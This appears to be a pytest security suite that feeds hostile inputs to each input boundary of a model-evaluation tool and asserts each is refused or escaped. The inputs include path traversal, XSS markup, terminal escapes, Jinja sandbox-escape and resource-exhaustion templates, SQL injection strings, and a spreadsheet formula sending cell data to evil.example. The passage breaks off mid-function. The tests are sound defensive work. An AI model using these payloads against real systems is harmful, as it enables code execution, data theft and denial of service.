"""Hostile input at every boundary (docs/SECURITY.md): one catalogue of names, texts and files an
attacker might send, fed to each place where something from outside enters, with the outcome
asserted: refused with a clear error that names the input (escaped), or rendered inert; nothing
written outside its folder, nothing executed, no secret sent or stored. The store cases run on
SQLite and PostgreSQL."""

from __future__ import annotations

import json
import os
import re
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from click.testing import CliRunner

from inquitree.boundary.files import confined
from inquitree.boundary.text import ESCAPED_CATEGORIES, printable, shown
from inquitree.cli import main
from inquitree.core.game.tree import resolve_tree
from inquitree.events.names import check_episode_id
from inquitree.events.store import MAX_EVENT_BYTES, EventStore
from inquitree.events.types import AgentReplied, EpisodeStarted

from enginekit import OracleAgent, play
from openai_server import OpenAICompatibleServer

ESC = "\x1b]0;PWNED\x07\x1b[2J"
CATALOGUE = {
    "traversal": "../../../PWNED",
    "absolute": "/tmp/PWNED",
    "separator": "a/b/c",
    "backslash": "a\\b",
    "dotdot": "..",
    "dot": ".hidden",
    "option": "-rf",
    "markup": "<img src=x onerror=alert(1)>",
    "terminal": ESC,
    "carriage_return": "ok\roverwritten",
    "nul": "a\x00b",
    "bidi": "abc\u202edcb",
    "space": "two words",
    "huge": "x" * 5000,
    "empty": "",
}


class _Unprintable:
    """What must never reach a terminal raw: any character of the escaped categories but newline
    and tab, by category (the code's definition), not by a list of known offenders."""

    @staticmethod
    def search(text: str) -> bool:
        return any(unicodedata.category(c) in ESCAPED_CATEGORIES and c not in "\n\t" for c in text)


UNPRINTABLE = _Unprintable()


def run(*args: str, env: dict | None = None):
    return CliRunner().invoke(main, list(args), env=env)


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")}


# -- the grammar and the confinement, unit by unit ----------------------------------------------
@pytest.mark.parametrize("name", list(CATALOGUE), ids=list(CATALOGUE))
def test_no_catalogue_name_is_an_episode_id_nor_a_file_outside_its_folder(name, tmp_path):
    value = CATALOGUE[name]
    with pytest.raises(Exception, match="not allowed") as info:
        check_episode_id(value, "--episode-id")
    assert not UNPRINTABLE.search(str(info.value)) and len(str(info.value)) < 400
    if name in ("traversal", "absolute", "separator", "backslash", "dotdot", "nul", "terminal", "empty"):
        with pytest.raises(Exception, match="cannot name a file"):
            confined(tmp_path, value, ".html")


def test_printable_escapes_what_a_terminal_would_act_on():
    assert printable(f"a{ESC}b\rc\u202ed\ne") == "a\\x1b]0;PWNED\\x07\\x1b[2Jb\\x0dc\\u202ed\ne"
    assert shown("a\x00\n") == "'a\\x00\\n'"


def test_printable_escapes_every_character_of_the_escaped_categories():
    """Every code point of Cc, Cf, Zl, Zp, Co and Cs (newline and tab aside) comes out escaped, as do
    the bidi mark U+061C and the line separator U+2028 that a list of characters missed."""
    import sys

    every = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) in ESCAPED_CATEGORIES]
    assert len(every) > 100_000 and "\u061c" in every and "\u2028" in every and "\u2029" in every
    text = "".join(c for c in every if c not in "\n\t")
    out = printable(text)
    assert not UNPRINTABLE.search(out)
    assert printable("a\u061cb\u2028c") == "a\\u061cb\\u2028c"
    assert printable("tab\tand\nnewline") == "tab\tand\nnewline"
    assert printable("x\U000f0000y") == "x\\U000f0000y"  # a private-use code point beyond the BMP


# -- command-line arguments -----------------------------------------------------------------------
@pytest.mark.parametrize("name", ["traversal", "markup", "terminal", "nul", "huge"])
def test_play_refuses_a_hostile_episode_id_before_writing_anything(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    out = run("play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--episode-id", CATALOGUE[name])
    assert out.exit_code == 2 and "episode id" in out.output and "not allowed" in out.output
    assert not UNPRINTABLE.search(out.output)
    assert files_under(tmp_path) == set()  # not even the store: the id is refused before it is opened


@pytest.mark.parametrize("name", ["../../x", "../queries/compare", "/etc/passwd", "a;b", "ABSOLUTE"])
def test_query_names_are_names(name, tmp_path, monkeypatch):
    # A query named by a path would run this file: its COPY writes wrote.csv into the current directory.
    (tmp_path / "x.sql").write_text("COPY (SELECT 1) TO 'wrote.csv'")
    monkeypatch.chdir(tmp_path)
    name = str(tmp_path / "x") if name == "ABSOLUTE" else name
    wh = tmp_path / "w.duckdb"
    run(
        "play",
        "--tree",
        "synthetic-chain-7",
        "--agent",
        "oracle",
        "--record",
        "--db",
        f"sqlite:///{tmp_path / 'e.sqlite'}",
    )
    assert run("warehouse", "sync", "--db", f"sqlite:///{tmp_path / 'e.sqlite'}", "--warehouse", str(wh)).exit_code == 0
    out = run("query", name, "--warehouse", str(wh))
    assert out.exit_code == 2 and "no query" in out.output and not (tmp_path / "wrote.csv").exists()


def test_sql_runs_one_statement_in_the_sandbox_and_says_why_it_refuses(tmp_path):
    db, wh = f"sqlite:///{tmp_path / 'e.sqlite'}", str(tmp_path / "w.duckdb")
    run("play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--db", db)
    run("warehouse", "sync", "--db", db, "--warehouse", wh)
    two = run("sql", "SELECT 1; SELECT 2", "--warehouse", wh)
    assert two.exit_code == 2 and "one SQL statement" in two.output
    for text in ("SELECT * FROM sniff_csv('/etc/passwd')", "SELECT * FROM duckdb_extensions()"):
        out = run("sql", text, "--warehouse", wh)
        assert out.exit_code == 2 and out.output.startswith("inquitree: error: SQL error:"), out.output
        assert "Traceback" not in out.output


def test_a_tree_nested_too_deeply_is_an_error_line(tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text('{"a":' + "[" * 200_000 + "]" * 200_000 + "}")
    out = run("trees", "validate", str(deep))
    assert out.exit_code in (1, 2) and "nested too deeply" in out.output and "Traceback" not in out.output
    assert len(out.output.splitlines()) <= 3, out.output


# -- imports ---------------------------------------------------------------------------------------
@pytest.fixture
def export(tmp_path):
    db = f"sqlite:///{tmp_path / 'src.sqlite'}"
    assert (
        run(
            "play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--db", db, "--episode-id", "ok-1"
        ).exit_code
        == 0
    )
    path = tmp_path / "ep.jsonl"
    assert run("episodes", "export", "ok-1", "--db", db, "--out", str(path)).exit_code == 0
    return path


@pytest.mark.parametrize("name", ["traversal", "separator", "markup", "terminal", "nul"])
def test_import_refuses_an_export_whose_episode_id_is_hostile(name, export, tmp_path, store_url):
    bad = tmp_path / "bad.jsonl"
    bad.write_text(export.read_text().replace('"ok-1"', json.dumps(CATALOGUE[name])))
    out = run("episodes", "import", str(bad), "--db", store_url)
    assert out.exit_code == 2 and "line 1: episode id" in out.output and not UNPRINTABLE.search(out.output)
    with EventStore(store_url) as store:
        assert store.last_position() == 0


def test_import_refuses_a_file_over_the_size_limit(export, tmp_path, monkeypatch):
    import inquitree.core.run.golden as golden

    monkeypatch.setattr(golden, "MAX_IMPORT_BYTES", 1000)
    out = run("episodes", "import", str(export), "--db", f"sqlite:///{tmp_path / 'o.sqlite'}")
    assert out.exit_code == 2 and "bytes, over the limit of 1,000; refused" in out.output
    assert not (tmp_path / "o.sqlite").exists()


def test_an_event_over_the_size_limit_is_refused_before_anything_is_written(store_url):
    tree = resolve_tree("synthetic-chain-7")
    with EventStore(store_url) as store:
        play(tree, OracleAgent(tree), store=store)
        before = store.last_position()
        huge = AgentReplied(step=1, state="topic", raw="x" * (MAX_EVENT_BYTES + 1), action="x")
        with pytest.raises(Exception, match="larger than an event may be"):
            store.append("episode/big", [huge], 0)
        assert store.last_position() == before


def _without_proof(export: Path, out: Path) -> Path:
    rows = [json.loads(line) for line in export.read_text().splitlines()]
    out.write_text(
        "".join(json.dumps({k: r[k] for k in ("type", "version", "payload")}) + "\n" for r in rows if "type" in r)
    )
    return out


def test_an_import_is_never_signed_with_the_labs_key_and_verify_says_on_whose_word(export, tmp_path, store_url):
    """With $INQUITREE_SIGNING_KEY set, an unsigned, hash-less import used to get the lab's signature,
    and `db verify --key` then called the forged episode proved."""
    assert run("db", "keygen", str(tmp_path / "lab")).exit_code == 0
    env = {"INQUITREE_SIGNING_KEY": str(tmp_path / "lab.key")}
    forged = _without_proof(export, tmp_path / "forged.jsonl")
    refused = run("episodes", "import", str(forged), "--key", str(tmp_path / "lab.pub"), "--db", store_url, env=env)
    assert refused.exit_code == 2 and "carries no hashes" in refused.output
    assert run("episodes", "import", str(forged), "--db", store_url, env=env).exit_code == 0
    out = run("db", "verify", "--key", str(tmp_path / "lab.pub"), "--db", store_url)
    assert out.exit_code == 1, out.output
    assert re.search(r"imported: episode ok-1 from 'forged.jsonl' \(\d+ events\): on no one's word", out.output)
    assert "NOT PROVEN" in out.output and "is the one recorded" not in out.output


def test_verify_with_a_key_alone_says_it_cannot_prove_the_tail(tmp_path, store_url):
    assert run("db", "keygen", str(tmp_path / "lab")).exit_code == 0
    env = {"INQUITREE_SIGNING_KEY": str(tmp_path / "lab.key")}
    assert (
        run(
            "play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--db", store_url, env=env
        ).exit_code
        == 0
    )
    out = run("db", "verify", "--key", str(tmp_path / "lab.pub"), "--db", store_url)
    # a script reads the exit status: a proof that cannot reach the end is not a plain success
    assert out.exit_code == 3 and "cannot prove: that no events were cut from the end" in out.output
    assert "--anchor FILE" in out.output and "UNANCHORED" in out.output
    accepted = run("db", "verify", "--key", str(tmp_path / "lab.pub"), "--db", store_url, "--accept-unanchored")
    assert accepted.exit_code == 0, accepted.output
    anchor = tmp_path / "head.json"
    assert run("db", "anchor", "--out", str(anchor), "--db", store_url).exit_code == 0
    both = run("db", "verify", "--key", str(tmp_path / "lab.pub"), "--anchor", str(anchor), "--db", store_url)
    assert both.exit_code == 0 and "UNANCHORED" not in both.output, both.output


# -- stored names read back: the report and the viewer ---------------------------------------------
def _foreign_episode(store_url: str, episode_id: str) -> None:
    """An episode whose id breaks the grammar, appended as a writer other than InquiTree would (the
    PostgreSQL writer role may INSERT): past the store's public append, which refuses it."""
    tree = resolve_tree("synthetic-chain-7")
    with EventStore(store_url) as store:
        with pytest.raises(Exception, match="not allowed"):
            store.append("episode/" + episode_id, [AgentReplied(step=1, state="topic", raw="x", action="x")], 0)
        out = play(tree, OracleAgent(tree), store=None)
        events = [
            EpisodeStarted(**{**e.to_payload(), "episode_id": episode_id}) if isinstance(e, EpisodeStarted) else e
            for e in out.events
        ]
        content = [(e.TYPE, e.VERSION, store.clock(), e.to_json()) for e in events]
        store._append("episode/" + episode_id, content, 0)


def test_a_foreign_episode_id_writes_no_file_outside_the_report(tmp_path, store_url, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _foreign_episode(store_url, "../../../PWNED<img src=x onerror=alert(1)>")
    wh = str(tmp_path / "w.duckdb")
    synced = run("warehouse", "sync", "--db", store_url, "--warehouse", wh)
    assert synced.exit_code == 0 and "outside InquiTree's grammar" in synced.output
    (tmp_path / "deep" / "er").mkdir(parents=True)
    out = run("report", "--out", str(tmp_path / "deep" / "er" / "rep"), "--warehouse", wh, "--no-sync")
    assert out.exit_code == 0, out.output
    assert not list(tmp_path.rglob("PWNED*")), list(tmp_path.rglob("PWNED*"))
    index = (tmp_path / "deep" / "er" / "rep" / "index.html").read_text()
    assert "<img src=x" not in index


# -- templates, suites --------------------------------------------------------------------------------
def _template_set(tmp_path: Path, body: str) -> Path:
    from inquitree.core.game.prompts import TEMPLATES_DIR

    d = tmp_path / "tpl"
    d.mkdir()
    for f in (TEMPLATES_DIR / "inquitree").iterdir():
        (d / f.name).write_bytes(f.read_bytes())
    (d / "C.1.1.j2").write_text(body)
    return d


@pytest.mark.parametrize(
    "body",
    [
        "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '../../../../etc/passwd' %}",
    ],
)
def test_a_template_set_runs_no_code(body, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    tpl = _template_set(tmp_path, body)
    out = run("play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--templates", str(tpl), "-q")
    refused = ("sandbox", "not a file of this set", "leads outside the set's folder")
    assert out.exit_code == 2 and any(r in out.output for r in refused), out.output
    assert not (tmp_path / "PWNED").exists() and "root:" not in out.output


@pytest.mark.parametrize(
    "body",
    [
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}x",
        "{% for i in range(100000000) %}{% endfor %}x",
        "{{ lipsum(n=100000, html=False) }}",
        '{{ "x" * 100000000 }}',
        '{{ "x".center(100000000) }}',
        '{{ "{:>100000000}".format(1) }}',
        '{{ "%100000000s" % 1 }}',
        "{{ 10 ** 100000000 }}",
        "{% for a in hints %}{% for b in hints %}{% for c in hints %}{% for d in hints %}{% endfor %}{% endfor %}"
        "{% endfor %}{% endfor %}x",
        "{% for i in range(99999) %}{{ hints }}{% endfor %}",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    ],
)
def test_a_template_cannot_hang_or_crash_a_run(body, tmp_path, monkeypatch):
    """Nested loops hung a run; range(100000000) and lipsum ended in tracebacks; "x" * 100000000
    rendered 100 MB. Each is one error line within seconds."""
    monkeypatch.chdir(tmp_path)
    tpl = _template_set(tmp_path, body)
    (tpl / "C.1.2.j2").write_text(body)  # the hint template: its {{ hints }} is as long as the tree's hint
    script = tmp_path / "miss.txt"
    script.write_text("ACTION: lunch")
    t0 = time.perf_counter()
    out = run("play", "--tree", "synthetic-chain-7", "--agent", f"script:{script}", "--templates", str(tpl), "-q")
    assert time.perf_counter() - t0 < 30
    assert out.exit_code == 2, out.output
    lines = [ln for ln in out.output.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("inquitree: error: template") and len(out.output) < 2000, lines


def _suite(tmp_path: Path, extra: str, agents: str = '["oracle"]') -> Path:
    path = tmp_path / "s.toml"
    path.write_text(
        f'name = "s"\ntrees = ["synthetic-chain-7"]\nagents = {agents}\njudges = ["embedding"]\n'
        f'randomness = [0]\nruns = 1\nembedder = "hash"\n{extra}\n'
    )
    return path


@pytest.mark.parametrize(
    "extra, agents",
    [
        ("", '["script:/etc/passwd"]'),
        ('templates = "/etc"', '["oracle"]'),
        ('call_cache = "/tmp/inquitree-hostile-cache.sqlite"', '["oracle"]'),
        ('prices = "../../prices.json"', '["oracle"]'),
    ],
)
def test_a_suite_may_only_name_files_beside_it(extra, agents, tmp_path, monkeypatch):
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    suite = _suite(work, extra, agents)
    db = f"sqlite:///{work / 'e.sqlite'}"
    out = run("suite", "run", str(suite), "--db", db)
    assert out.exit_code == 2 and "outside the suite's folder" in out.output and "--trust-suite" in out.output
    assert not (work / "e.sqlite").exists()


def test_a_suite_grid_too_large_is_refused_at_once(tmp_path):
    suite = _suite(tmp_path, "").read_text().replace("runs = 1", "runs = 1000000000")
    (tmp_path / "big.toml").write_text(suite)
    t0 = time.perf_counter()
    out = run("suite", "status", str(tmp_path / "big.toml"), "--db", f"sqlite:///{tmp_path / 'e.sqlite'}")
    assert out.exit_code == 2 and "1,000,000,000 cells" in out.output and time.perf_counter() - t0 < 30


def test_a_suites_endpoint_gets_the_users_key_only_when_trusted(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    seen: list[str] = []
    with OpenAICompatibleServer(lambda m: "ACTION: draw_conclusion") as server:
        orig = server.httpd.RequestHandlerClass.do_POST

        def spy(handler):
            seen.append(handler.headers.get("Authorization", ""))
            return orig(handler)

        server.httpd.RequestHandlerClass.do_POST = spy
        suite = _suite(tmp_path, f'base_url = "{server.base_url}"\nmax_turns = 2', '["openai:m"]')
        env = {"OPENAI_API_KEY": "sk-secret-of-the-user", "OPENAI_BASE_URL": None}
        db = f"sqlite:///{tmp_path / 'e.sqlite'}"
        out = run("suite", "run", str(suite), "--db", db, env=env)
        assert out.exit_code == 2 and "would receive your $OPENAI_API_KEY" in out.output and not seen
        run("suite", "run", str(suite), "--db", db, "--trust-suite", env=env)
    assert seen and all(h == "Bearer sk-secret-of-the-user" for h in seen)


# -- secrets -------------------------------------------------------------------------------------------
def test_credentials_in_other_spellings_are_never_recorded(tmp_path):
    secrets = ("SUBKEY-123456", "CODE-654321", "HEADER-777777")
    with OpenAICompatibleServer(lambda m: "ACTION: draw_conclusion") as server:
        url = f"{server.base_url}?subscription-key={secrets[0]}&code={secrets[1]}&api-version=2024"
        db = tmp_path / "e.sqlite"
        out = run(
            "play", "--tree", "synthetic-chain-7", "--agent", "openai:m", "--base-url", url, "--embedder", "hash",
            "--agent-option", json.dumps({"X-Custom-Auth": secrets[2]}).join(["extra_headers=", ""]),
            "--max-turns", "2", "--record", "--db", f"sqlite:///{db}",
        )  # fmt: skip
    assert out.exit_code == 0, out.output
    stored = db.read_bytes()
    for s in secrets:
        assert s.encode() not in stored and s not in out.output
    assert b"api-version=2024" in stored


# -- the terminal ------------------------------------------------------------------------------------
def test_model_replies_reach_the_terminal_escaped(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    script = tmp_path / "s.txt"
    reply = f"THOUGHT: {ESC}\u061c\u2028\nACTION: hi\r\u202eevil\u2029"
    script.write_text("\n---\n".join([reply, reply, reply, "ACTION:\n(1) " + ESC]))
    played = ["play", "--tree", "synthetic-chain-7", "--agent", f"script:{script}", "--max-turns", "2"]
    for args in (
        [*played, "--transcript", "--record", "--episode-id", "t"],
        ["replay", "t", "--transcript"],
        ["episodes", "show", "t"],
        ["episodes", "list"],
    ):
        out = run(*args)
        assert out.exit_code == 0, out.output
        assert not UNPRINTABLE.search(out.output), out.output


def test_tree_text_reaches_the_terminal_escaped(tmp_path):
    doc = json.loads((Path(resolve_tree("synthetic-chain-7").source)).read_text())
    doc["topic"]["text"] = "Sleep " + ESC + " and memory"
    path = tmp_path / "t.json"
    path.write_text(json.dumps(doc))
    out = run("trees", "show", str(path))
    assert out.exit_code == 0, out.output
    assert "\x1b" not in out.output and "\\x1b]0;PWNED" in out.output


# -- the viewer's HTTP surface ---------------------------------------------------------------------------
@pytest.fixture
def viewer(tmp_path):
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from inquitree.viewer.app import create_app

    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
    script = tmp_path / "s.txt"
    reply = "THOUGHT: " + "word " * 300 + "\nACTION: lunch"
    script.write_text("\n---\n".join([reply, reply, reply, "ACTION:\n(1) word"]))
    assert (
        run(
            "play",
            "--tree",
            "synthetic-chain-7",
            "--agent",
            f"script:{script}",
            "--max-turns",
            "2",
            "--record",
            "--db",
            db,
        ).exit_code
        == 0
    )
    wh = str(tmp_path / "w.duckdb")
    assert run("warehouse", "sync", "--db", db, "--warehouse", wh).exit_code == 0
    return TestClient(create_app(wh), base_url="http://127.0.0.1", raise_server_exceptions=False)


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "localhost.", "[::2]"])
def test_the_viewer_answers_only_its_own_hosts(viewer, host):
    r = viewer.get("/api/search?q=word", headers={"Host": host})
    assert r.status_code == 421 and "content-security-policy" in r.headers
    assert viewer.get("/api/search?q=word", headers={"Host": "localhost:8765"}).status_code == 200


@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "1" * 5000, "-1", "1e3", " 1", "0x10", "\uff11"])
def test_page_parameters_are_parsed_strictly_or_ignored(viewer, value):
    """A superscript two passed str.isdigit() and then int() raised: the page answered 500."""
    for path, name in (("/", "page"), ("/suites/none", "runs"), ("/suites/none", "page")):
        r = viewer.get(path, params={name: value})
        assert r.status_code in (200, 404) and "Traceback" not in r.text, (path, name, r.status_code)
    assert viewer.get("/", params={"page": value}).status_code == 200


def test_a_real_server_answers_only_its_own_hosts(tmp_path):
    """The Host check through uvicorn on a real socket, not the test client: every spelling a page
    could rebind to 127.0.0.1 gets 421, the loopback names get the page."""
    import http.client
    from urllib.parse import urlsplit

    pytest.importorskip("uvicorn")
    from inquitree.viewer.app import create_app

    from tests_support import served

    wh = str(tmp_path / "w.duckdb")
    from inquitree.warehouse.warehouse import Warehouse

    Warehouse(wh).close()
    hostile = ["evil.example", "127.0.0.1.evil.example", "localhost.", "LOCALHOST.evil", "[::2]", "127.1", "0.0.0.0"]
    with served(create_app(wh)) as base:
        port = urlsplit(base).port
        for host, expected in [*[(h, 421) for h in hostile], ("127.0.0.1", 200), (f"localhost:{port}", 200)]:
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            conn.putrequest("GET", "/", skip_host=True)
            conn.putheader("Host", host)
            conn.endheaders()
            response = conn.getresponse()
            assert response.status == expected, (host, response.status)
            response.read()
            conn.close()


@pytest.mark.parametrize("q", ["word " * 3000, "\x00", "a\x00b word", '" OR 1=1 --', "NEAR(word word)", "*" * 500])
def test_a_hostile_search_is_bounded_and_keeps_the_headers(viewer, q):
    t0 = time.perf_counter()
    r = viewer.get("/api/search", params={"q": q})
    assert time.perf_counter() - t0 < 10
    assert r.status_code == 200 and "content-security-policy" in r.headers  # bounded, answered: never "busy" here
    assert "x-content-type-options" in r.headers


def test_a_search_that_runs_past_its_budget_is_stopped(tmp_path):
    from inquitree.viewer.search import SearchIndex, SearchStopped

    path = tmp_path / "i.sqlite"
    import sqlite3

    con = sqlite3.connect(path)
    con.execute("CREATE VIRTUAL TABLE texts USING fts5(text, episode_id UNINDEXED, step UNINDEXED, kind UNINDEXED, "
                "agent UNINDEXED, tree_id UNINDEXED, randomness UNINDEXED, status UNINDEXED)")  # fmt: skip
    con.executemany(
        "INSERT INTO texts (text, episode_id) VALUES (?, ?)", [("word " * 200, f"e{i}") for i in range(3000)]
    )
    con.commit()
    con.close()
    with pytest.raises(SearchStopped, match="longer than 0.001 s"):
        SearchIndex(path).search("word", budget=0.001)
    import threading

    cancel = threading.Event()
    cancel.set()
    with pytest.raises(SearchStopped, match="request was closed"):
        SearchIndex(path).search("word", cancel=cancel)


def _long_texts_index(path: Path, texts: int = 1500, chars: int = 20_000) -> None:
    """An index of long texts (replies reach 20,000 characters) made mostly of common words."""
    import random
    import sqlite3

    rng = random.Random(7)
    common = [
        "the",
        "of",
        "and",
        "to",
        "in",
        "a",
        "is",
        "that",
        "for",
        "it",
        "as",
        "was",
        "with",
        "be",
        "by",
        "on",
        "not",
        "this",
        "are",
        "or",
        "from",
        "at",
    ]
    con = sqlite3.connect(path)
    con.execute("CREATE VIRTUAL TABLE texts USING fts5(text, episode_id UNINDEXED, step UNINDEXED, kind UNINDEXED, "
                "agent UNINDEXED, tree_id UNINDEXED, randomness UNINDEXED, status UNINDEXED)")  # fmt: skip
    rows = []
    for i in range(texts):
        words = [rng.choice(common) if rng.random() < 0.7 else f"w{rng.randrange(3000)}" for _ in range(chars // 4)]
        rows.append((" ".join(words)[:chars], f"e{i}"))
    con.executemany("INSERT INTO texts (text, episode_id) VALUES (?, ?)", rows)
    con.commit()
    con.close()


def test_a_search_of_common_words_over_long_texts_keeps_its_budget(tmp_path):
    """The budget was a progress handler, which FTS5's snippet() never ticks: eight common words over
    long texts took 24-28 s. Every part (match, rank, snippets) now runs under the deadline: the
    search answers within its budget with marked snippets, or is stopped at it."""
    from inquitree.viewer.search import SearchIndex, SearchStopped

    path = tmp_path / "long.sqlite"
    _long_texts_index(path)
    query = "the of and to in that for with"
    t0 = time.perf_counter()
    hits = SearchIndex(path).search(query, budget=2.0)
    took = time.perf_counter() - t0
    assert len(hits) == 100 and took < 2.5, took  # answered, not stopped: the snippets are no longer the cost
    assert all("<mark>" in h["snippet_html"] and len(h["snippet_html"]) < 2_000 for h in hits)
    for budget in (0.05, 0.2):
        t0 = time.perf_counter()
        try:
            SearchIndex(path).search(query, budget=budget)
        except SearchStopped as exc:
            assert f"longer than {budget:g} s" in str(exc)
        assert time.perf_counter() - t0 < budget + 0.5  # stopped at its budget, whatever it was doing


def test_the_viewer_leaves_no_temporary_folder(viewer, tmp_path):
    import tempfile

    before = set(Path(tempfile.gettempdir()).glob("inquitree-view-figures-*"))
    assert viewer.get("/figures").status_code == 200
    assert set(Path(tempfile.gettempdir()).glob("inquitree-view-figures-*")) == before


def test_view_no_sync_writes_nothing_beside_the_warehouse(tmp_path):
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from inquitree.viewer.app import create_app

    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
    run("play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--db", db)
    wh = tmp_path / "w.duckdb"
    run("warehouse", "sync", "--db", db, "--warehouse", str(wh))
    before = files_under(tmp_path)
    client = TestClient(create_app(str(wh), write_index=False), base_url="http://127.0.0.1")
    r = client.get("/api/search", params={"q": "sleep"})
    assert r.status_code == 503 and "no search index" in r.json()["problem"]
    assert files_under(tmp_path) == before
    assert not os.path.exists(str(wh) + ".search.sqlite")


def test_search_terms_are_bounded_distinct_and_never_a_cut_word():
    from inquitree.viewer.search import MAX_TERMS, terms

    assert terms("ACTION " * 3000) == ["action"]  # one word, not 3,000 (and not "acti" from the cut)
    assert terms(" ".join(f"w{i}" for i in range(100))) == [f"w{i}" for i in range(MAX_TERMS)]
    assert terms("a\x00b\x1b[2J word") == ["a", "b", "[2j", "word"]


# -- commands that print what a user typed -----------------------------------------------------------
@pytest.mark.parametrize("name", list(CATALOGUE), ids=list(CATALOGUE))
def test_trees_match_prints_any_text_escaped_and_refuses_a_hostile_subtopic(name):
    text = CATALOGUE[name]
    out = run("trees", "match", "--embedder", "hash", "--", "synthetic-diamond-4", text)  # "--": "-rf" is text
    assert out.exit_code == 0, out.output
    assert not UNPRINTABLE.search(out.output.replace("\n", "")), out.output
    wrong = run("trees", "match", "synthetic-diamond-4", "x", "--subtopic", text, "--embedder", "hash")
    assert wrong.exit_code == 2 and "is not a subtopic of synthetic-diamond-4" in wrong.output
    assert not UNPRINTABLE.search(wrong.output.replace("\n", "")), wrong.output


@pytest.mark.parametrize("name", ["terminal", "markup", "bidi", "carriage_return", "traversal"])
def test_compare_and_power_name_an_unknown_hostile_agent_escaped(name, tmp_path):
    url = f"sqlite:///{tmp_path / 'e.sqlite'}"
    w = str(tmp_path / "w.duckdb")
    assert run("play", "--tree", "synthetic-chain-7", "--agent", "oracle", "--record", "--db", url, "-q").exit_code == 0
    assert run("warehouse", "sync", "--db", url, "--warehouse", w).exit_code == 0
    agent = CATALOGUE[name]
    for args in (["compare", "oracle", agent], ["power", "--difference", "0.1", "--agents", "oracle", agent]):
        out = run(*args, "--warehouse", w)
        assert out.exit_code == 2, out.output
        assert "no episodes of agent" in out.output or "no pair of" in out.output, out.output
        assert not UNPRINTABLE.search(out.output.replace("\n", "")), out.output
    assert not (tmp_path.parent / "PWNED").exists()


def test_spreadsheet_safe_csv_defuses_formulas_from_model_replies(tmp_path):
    """A model reply or a tree text starting with = reached a spreadsheet raw (=HYPERLINK(...))."""
    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
    script = tmp_path / "s.txt"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    script.write_text("\n---\n".join([f"ACTION: {formula}", "ACTION: +1+1", "ACTION: @SUM(1)", "ACTION:\n(1) -2+3"]))
    args = ["play", "--tree", "synthetic-chain-7", "--agent", f"script:{script}", "--max-turns", "3", "--record"]
    assert run(*args, "--db", db).exit_code == 0
    wh = str(tmp_path / "w.duckdb")
    assert run("warehouse", "sync", "--db", db, "--warehouse", wh).exit_code == 0
    select = "SELECT action FROM ev_agent_replied ORDER BY global_position"
    raw = run("sql", select, "--warehouse", wh, "--format", "csv")
    assert raw.exit_code == 0 and '\n"=HYPERLINK' in raw.stdout  # as recorded: CSV for programs is exact
    safe = run("sql", select, "--warehouse", wh, "--format", "csv", "--spreadsheet-safe")
    assert safe.exit_code == 0, safe.output
    import csv
    import io

    cells = [row[0] for row in csv.reader(io.StringIO(safe.stdout))][1:]
    assert cells and not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), cells
    assert "\"'=HYPERLINK" in safe.stdout and "'+1+1" in safe.stdout
    refused = run("sql", select, "--warehouse", wh, "--spreadsheet-safe")
    assert refused.exit_code == 2 and "--spreadsheet-safe is for --format csv" in refused.output


def test_a_key_in_a_base_urls_path_or_fragment_is_never_recorded(tmp_path, monkeypatch):
    """A gateway that takes the key in the path (/v1/sk-.../) or a fragment kept it in the store and
    in exports; a value equal to a configured secret is redacted wherever it stands."""
    from inquitree.core.calls.redaction import redact_url

    in_path, in_fragment, configured = "sk-live9f8e7d6c5b4a3928171605", "frag-secret-42", "tenant7Ab3xQ"
    monkeypatch.setenv("GATEWAY_TOKEN", configured)
    for url in ("http://h/v1/sk-abc/x", "http://h/p/0123456789abcdef0123456789abcdef", f"http://h/{configured}/v1"):
        assert "***" in (redact_url(url) or ""), url
    assert redact_url("http://127.0.0.1:8011/v1") == "http://127.0.0.1:8011/v1"  # an ordinary URL as it is
    with OpenAICompatibleServer(lambda m: "ACTION: draw_conclusion") as server:
        url = f"{server.base_url}/{in_path}/{configured}#{in_fragment}"
        db = tmp_path / "e.sqlite"
        out = run(
            "play", "--tree", "synthetic-chain-7", "--agent", "openai:m", "--base-url", url, "--embedder", "hash",
            "--max-turns", "2", "--record", "--db", f"sqlite:///{db}", "--episode-id", "keyed",
        )  # fmt: skip
        assert out.exit_code == 0, out.output
        assert server.requests, "the call went to the server with its path"
    exported = tmp_path / "ep.jsonl"
    assert run("episodes", "export", "keyed", "--out", str(exported), "--db", f"sqlite:///{db}").exit_code == 0
    for where in (db.read_bytes(), exported.read_bytes(), out.output.encode()):
        for secret in (in_path, in_fragment, configured):
            assert secret.encode() not in where


def test_report_and_out_files_never_write_through_a_link(tmp_path):
    """`report --out DIR` followed links already in DIR: DIR/index.html -> victim overwrote the victim,
    DIR/episodes -> elsewhere wrote there; an --out FILE that is a link was written through too."""
    db = f"sqlite:///{tmp_path / 'e.sqlite'}"
